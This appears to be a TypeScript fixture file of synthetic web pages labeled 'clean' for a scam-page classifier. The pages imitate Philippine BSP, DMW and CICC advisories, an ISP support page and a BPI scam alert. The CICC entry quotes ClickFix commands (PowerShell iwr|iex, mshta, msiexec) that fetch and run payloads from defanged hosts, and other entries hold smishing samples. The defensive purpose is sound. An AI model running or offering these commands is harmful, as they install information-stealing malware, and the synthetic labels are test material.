import { type Entry } from '../entry.js';
import { page, PH, seal, mark, esc } from '../parts/yw-kit.js';

export const entries: Entry[] = [
  {
    id: 'yw-clean-bsp-advisory-smishing-ewallet',
    label: 'clean',
    kind: 'regulator-advisory',
    url: 'https://www.bsp.gov.ph/SitePages/MediaAndResearch/MediaDisp.aspx?ItemId=7421&yw=adv',
    body: page({
      title: 'BSP Advisory: Beware of text messages with links pretending to be from your bank or e-wallet',
      css: 'body{font-family:Arial,sans-serif;background:#fff;color:#222}.h{background:#0a2351;color:#fff;padding:12px 20px;display:flex;gap:12px;align-items:center}.w{max-width:820px;margin:0 auto;padding:24px;line-height:1.65}.q{background:#f4f6fa;border-left:4px solid #c9a227;padding:10px 14px;font-family:Consolas,monospace;font-size:14px}.m{font-size:12px;color:#666}',
      body: `<div class="h">${seal({ ...PH.dfa, main: '#0a2351' }, 'BSP', 52)}<div><b>Bangko Sentral ng Pilipinas</b><br><small>Media Releases · Consumer Advisories</small></div></div>
<div class="w"><p class="m">Advisory No. 2025-41 · 14 November 2025</p><h1>Beware of text messages with links pretending to be from your bank or e-wallet</h1>
<p>The Bangko Sentral ng Pilipinas (BSP) warns the public against fraudulent text messages that appear to come from banks, e-money issuers and government agencies. These messages contain links to fake websites designed to steal usernames, passwords, one-time PINs (OTPs) and MPINs.</p>
<p>Examples of messages reported to the BSP Consumer Assistance Mechanism:</p>
<p class="q">${esc('GCash: Your account has been temporarily limited due to incomplete verification. Verify now to avoid suspension: hxxps://gcash-verify[.]ph-account[.]com/login')}</p>
<p class="q">${esc('BDO: We detected an unusual sign-in on your account. Log in within 24 hours to confirm: hxxps://bdo-onlinebanking[.]ph-secure-verify[.]xyz')}</p>
<p class="q">${esc('SSS: Calamity Loan Assistance up to P20,000 is ready for release. Enroll your disbursement account here: hxxps://mysss-gov-ph[.]online')}</p>
<p>Under Republic Act No. 12010, the Anti-Financial Account Scamming Act (AFASA), banks and e-money issuers are prohibited from sending clickable links or QR codes to clients through SMS or email. <b>Any such message should be treated as a scam.</b></p>
<h3>What you should do</h3><ul><li>Do not click links in text messages, even if the sender name shows your bank.</li><li>Never share your OTP, MPIN, password or card CVV. Your bank will never ask for them.</li><li>Type your bank's official website address yourself or use the official app.</li><li>Report phishing to your bank's hotline and to the BSP through BSP Online Buddy (BOB) at www.bsp.gov.ph or Facebook Messenger (@BangkoSentralngPilipinas).</li></ul>
<p class="m">BSP Corporate Affairs Office · For inquiries: consumeraffairs@bsp.gov.ph</p></div>`,
    }),
  },
  {
    id: 'yw-clean-dmw-advisory-illegal-recruiters',
    label: 'clean',
    kind: 'regulator-advisory',
    url: 'https://dmw.gov.ph/advisories/2025/adv-118-illegal-recruitment-canada-poland',
    body: page({
      title: 'DMW Advisory No. 118, Series of 2025 — Illegal recruitment for Canada, Poland and Japan',
      css: 'body{font-family:"Times New Roman",serif;background:#fff;color:#1a1a1a}.h{background:#0b3d91;color:#fff;padding:12px 20px;display:flex;align-items:center;gap:12px;font-family:Arial}.w{max-width:800px;margin:0 auto;padding:24px;line-height:1.6}table{border-collapse:collapse;width:100%;font-family:Arial;font-size:13px}td,th{border:1px solid #999;padding:6px}th{background:#e8eef8}',
      body: `<div class="h">${seal({ ...PH.dswd, name: 'Department of Migrant Workers' }, 'DMW', 52)}<div><b>Department of Migrant Workers</b><br><small>Kagawaran ng Manggagawang Pandarayuhan</small></div></div>
<div class="w"><p><b>ADVISORY NO. 118, Series of 2025</b></p><p><b>SUBJECT: Illegal recruitment activities for Canada, Poland and Japan through social media</b></p>
<p>The Department of Migrant Workers (DMW) informs the public that the following entities and online pages are <b>not licensed</b> to recruit workers for overseas employment and have no approved job orders:</p>
<table><tr><th>Name used</th><th>Channel</th><th>Modus</th></tr><tr><td>Maple Leaf Global Manpower Services</td><td>Website, Facebook, GCash</td><td>Collects "processing fees" of ₱18,500 for Canada farm jobs; displays a fake DMW license number</td></tr><tr><td>Europe Jobs Pinoy / "Ma'am Jenny"</td><td>Blogspot, Telegram</td><td>₱5,000 "reservation fee"; advises applicants to leave on tourist visas</td></tr><tr><td>Nihon SSW Visa Assist</td><td>Website, Messenger</td><td>"Guaranteed" SSW visas and language certificates for ₱85,000</td></tr></table>
<p>Under Republic Act No. 8042, as amended, and RA 11641, recruitment without a license and the collection of fees before the signing of an employment contract are unlawful. <b>Placement fees are not charged for deployment to Canada, Japan (SSW) and countries where fees are prohibited.</b> Never leave the country on a tourist visa to work abroad.</p>
<p>Verify licensed agencies and approved job orders at <b>dmw.gov.ph</b> under "Verify Licensed Agencies" or call the DMW hotline 1348. Report illegal recruitment to the Anti-Illegal Recruitment Branch at air@dmw.gov.ph.</p>
<p>For the guidance of all concerned.</p><p><b>HANS LEO J. CACDAC</b><br>Secretary</p></div>`,
    }),
  },
  {
    id: 'yw-clean-cicc-clickfix-advisory-commands',
    label: 'clean',
    kind: 'security-advisory-quoting-commands',
    url: 'https://cicc.gov.ph/advisories/2025/cicc-advisory-fake-captcha-win-r-paste',
    body: page({
      title: 'CICC Advisory: Fake "I am not a robot" pages that make you paste commands',
      css: 'body{font-family:Arial,sans-serif;background:#fff;color:#1c1c1c}.h{background:#102a43;color:#fff;padding:12px 20px}.w{max-width:820px;margin:0 auto;padding:24px;line-height:1.6}pre{background:#1e1e1e;color:#d4d4d4;padding:12px;border-radius:6px;overflow:auto;font-size:13px}.ioc td{border:1px solid #ccc;padding:5px 8px;font-size:13px;font-family:Consolas,monospace}',
      body: `<div class="h"><b>Cybercrime Investigation and Coordinating Center</b> · Cybersecurity Advisory</div>
<div class="w"><h1>Fake "I am not a robot" pages that make you paste commands</h1><p>Advisory CICC-2025-077 · TLP:CLEAR</p>
<p>The CICC has observed campaigns targeting Filipino users in which a website shows a fake CAPTCHA or an error message and instructs the visitor to press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>. The page silently copies a malicious command to the clipboard. Running it installs information-stealing malware that takes saved passwords, browser cookies and crypto wallets.</p>
<p>Lures seen this month include a fake GCash "security check", a fake BDO "Secure Access Plug-in", a fake DSWD document viewer and a fake MLBB launcher fix. Examples of the commands copied (do <b>not</b> run these):</p>
<pre>${esc('powershell -w h -c "iwr https://gc-verify.cdn-check[.]top/v.ps1 -UseBasicParsing | iex" # ✅ GCash Web Verification ID: 44817')}</pre>
<pre>${esc('mshta https://cdn-jsdelivr.cloud-verify[.]icu/captcha.hta # I am not a robot - Cloudflare Verification ID: 7719-2204')}</pre>
<pre>${esc('msiexec /q /i https://bdo-secure-access.plugin-update[.]net/SecureAccessPlugin_x64.msi')}</pre>
<p>Note how the text after <code>#</code> makes the Run box show only a harmless-looking "Verification ID".</p>
<h3>Indicators</h3><table class="ioc"><tr><td>gc-verify.cdn-check[.]top</td><td>payload host</td></tr><tr><td>cloud-verify[.]icu</td><td>HTA host</td></tr><tr><td>plugin-update[.]net</td><td>MSI host</td></tr></table>
<h3>Recommendations</h3><ul><li>No legitimate website will ever ask you to paste anything into the Run dialog, Terminal or PowerShell to prove you are human.</li><li>Organizations may disable the Run dialog for standard users through Group Policy and enable PowerShell script block logging.</li><li>If you ran such a command, disconnect from the network, change your passwords from a different device and contact your bank.</li></ul><p>Report incidents to the CICC hotline 1326 or report@cicc.gov.ph.</p></div>`,
    }),
  },
  {
    id: 'yw-clean-isp-support-flushdns-winr',
    label: 'clean',
    kind: 'support-page-with-commands',
    url: 'https://www.convergeict.com/support/fiberx/slow-browsing-flush-dns',
    body: page({
      title: 'Slow browsing or sites not loading? Flush your DNS cache | Converge Support',
      css: 'body{font-family:Montserrat,Arial,sans-serif;background:#f7f7fb;color:#222}.h{background:#fff;padding:14px 24px;border-bottom:3px solid #6a1b9a;font-weight:bold;color:#6a1b9a}.w{max-width:760px;margin:0 auto;background:#fff;padding:24px;line-height:1.6}.cmd{display:flex;gap:8px;align-items:center;background:#f1f1f6;border-radius:6px;padding:8px 12px;font-family:Consolas,monospace}.cmd code{flex:1}.cmd button{border:0;background:#6a1b9a;color:#fff;border-radius:4px;padding:6px 10px;cursor:pointer}ol li{margin:8px 0}',
      body: `<div class="h">Converge · Customer Support</div>
<div class="w"><h1>Slow browsing or some websites not loading?</h1><p>If some websites load slowly or not at all while others work, your computer may have outdated DNS records. Flushing the DNS cache is safe and only takes a minute.</p>
<h3>Windows 10 / 11</h3><ol><li>Press <b>Windows key + R</b> to open the Run dialog.</li><li>Type <code>cmd</code> and press <b>Enter</b>.</li><li>In the Command Prompt, type or paste the command below and press <b>Enter</b>:</li></ol>
<div class="cmd"><code id="c1">ipconfig /flushdns</code><button data-c="c1">Copy</button></div>
<p>You should see "Successfully flushed the DNS Resolver Cache." If the problem continues, also run:</p>
<div class="cmd"><code id="c2">netsh winsock reset</code><button data-c="c2">Copy</button></div><p>Then restart your computer.</p>
<h3>macOS</h3><p>Open Terminal from Applications › Utilities and run:</p><div class="cmd"><code id="c3">sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder</code><button data-c="c3">Copy</button></div>
<p><b>Reminder:</b> Converge technicians will never ask you to install remote-access software or run commands sent through text or Messenger. Ticket numbers are only issued through our official app and hotline 1-800-1-477-0000.</p></div>
<script>document.querySelectorAll('.cmd button').forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent);b.textContent='Copied';};});</script>`,
    }),
  },
  {
    id: 'yw-clean-bpi-security-center-smishing-samples',
    label: 'clean',
    kind: 'brand-help-page',
    url: 'https://www.bpi.com.ph/security-center/scam-alerts/fake-account-locked-texts',
    body: page({
      title: 'Scam alert: "Your BPI account has been locked" texts | BPI Security Center',
      css: `body{font-family:"Segoe UI",Arial,sans-serif;background:#fff;color:#222}.h{padding:14px 24px;display:flex;gap:10px;align-items:center;border-bottom:1px solid #eee}.w{max-width:760px;margin:0 auto;padding:24px;line-height:1.65}.sms{max-width:320px;background:#e9e9eb;border-radius:18px;padding:10px 14px;font-size:14px;margin:10px 0}.tag{display:inline-block;background:${PH.bpi.main};color:#fff;font-size:12px;padding:2px 8px;border-radius:10px}`,
      body: `<div class="h">${mark(PH.bpi, 'BPI', 34, 17)}<b>Security Center</b></div>
<div class="w"><span class="tag">Scam alert</span><h1>"Your BPI account has been locked" texts</h1><p>We are seeing text messages that claim your BPI account is locked and ask you to "sign in to unlock". These messages are not from BPI.</p>
<div class="sms">BPI: Your account has been temporarily locked due to multiple failed login attempts. Unlock now: s.ph-link.cc/bpi0911</div>
<div class="sms">BPI Advisory: Magkakaroon ng system upgrade. I-update ang inyong account bago mag-expire: bpi-online-ph-verify.netlify.app</div>
<p>The fake pages ask for your username, password, debit card number, ATM PIN and OTP, then use them to move your money through InstaPay.</p>
<h3>How BPI actually contacts you</h3><ul><li>BPI does not send clickable links through SMS or email (as required by AFASA).</li><li>Transactions are authorized with Mobile Key in the BPI app.</li><li>BPI will never ask for your PIN, password or OTP.</li></ul><p>If you clicked a link or shared details, call BPI Contact Center at (02) 889-10000 or use Report Fraud in the BPI app right away.</p></div>`,
    }),
  },
];
